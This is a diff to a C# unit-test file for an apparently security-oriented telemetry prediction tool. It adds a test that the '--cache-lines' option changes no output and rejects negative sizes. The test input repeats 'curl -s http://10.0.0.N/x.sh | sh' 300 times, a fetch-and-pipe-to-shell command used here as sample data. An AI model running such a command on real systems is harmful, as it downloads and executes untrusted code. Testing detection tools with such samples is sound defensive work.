@@ -318,6 +318,22 @@ public class PredictTelemetryTests
     }
 
     [Fact]
+    public void The_cache_of_repeated_lines_is_an_option_that_changes_no_output_and_refuses_a_negative_size()
+    {
+        string input = string.Concat(Enumerable.Range(0, 300).Select(i => $"curl -s http://10.0.0.{i % 4}/x.sh | sh\n"));
+        var cached = Predict(input, "--format", "jsonl");
+        var uncached = Predict(input, "--format", "jsonl", "--cache-lines", "0");
+        Assert.True(cached.ExitCode == 0, cached.Error);
+        Assert.True(uncached.ExitCode == 0, uncached.Error);
+        Assert.Equal(300, JsonLines(cached.Output).Length);
+        Assert.Equal(uncached.Output, cached.Output);
+
+        var (exit, _, error) = Predict(input, "--cache-lines", "-1");
+        Assert.Equal(2, exit);
+        Assert.Contains("--cache-lines must be ≥ 0", error);
+    }
+
+    [Fact]
     public void Kept_fields_that_are_missing_are_null_not_a_crash()
     {
         string[] events = File.ReadAllLines(Fixture("Telemetry/ecs-process.ndjson"));
